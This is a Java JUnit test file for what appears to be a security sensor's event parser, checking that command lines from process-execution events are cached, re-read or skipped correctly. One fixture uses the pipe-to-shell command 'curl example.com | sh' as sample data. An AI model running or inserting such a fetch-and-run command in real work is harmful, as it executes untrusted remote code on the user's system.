package dev.tocsin.event;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tocsin.language.EventFixture;
import dev.tocsin.source.Recordings;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** One event that is turned from message to message, as the sensor's is. */
class RecentCommandLinesTest {
  private final Event event = Event.of(new byte[0]);

  @Test
  void whatIsTheSameIsReadOnce() {
    Event execution = EventFixture.exec("/bin/sh", "-c \"curl example.com | sh\"");

    assertThat(command(execution)).isSameAs(command(execution));
  }

  @Test
  void whatDiffersIsReadAgain() {
    List<Event> executions =
        List.of(
            EventFixture.exec("/bin/sh", "-c \"cat a\""),
            EventFixture.exec("/bin/dash", "-c \"cat a\""),
            EventFixture.exec("/bin/sh", "-c \"cat b\""));

    assertThat(executions.stream().map(this::command).collect(Collectors.toSet())).hasSize(3);
    assertThat(commands(executions.getLast())).isEqualTo("[sh -c cat b, cat b]");
  }

  @Test
  void whatIsLongOrHasManyCommandsIsNotKept() {
    Event longText = EventFixture.exec("/bin/sh", "-c \"cat " + "x".repeat(1_100) + "\"");
    Event manyCommands = EventFixture.exec("/bin/sh", "-c \"" + "ls; ".repeat(20) + "\"");

    assertThat(command(longText)).isNotSameAs(command(longText));
    assertThat(command(manyCommands)).isNotSameAs(command(manyCommands));
  }

  /** More of them than there are slots. */
  @Test
  void eachIsFoundToBeWhatItIs() {
    for (int round = 0; round < 2; round++) {
      for (int number : IntStream.range(0, 1_000).toArray()) {
        assertThat(commands(EventFixture.exec("/bin/cat", "file-" + number)))
            .isEqualTo("[cat file-" + number + "]");
      }
    }
  }

  @Test
  void recordedOnesAreWhatTheyAreAlone() {
    for (String recording : Recordings.names()) {
      for (byte[] message : Recordings.messages(recording)) {
        Event alone = Event.of(message);
        assertThat(commands(alone)).isEqualTo(alone.process().command().commands().toString());
      }
    }
  }

  private Object command(Event execution) {
    return event.wrap(execution.bytes()).process().command();
  }

  private String commands(Event execution) {
    return event.wrap(execution.bytes()).process().command().commands().toString();
  }
}
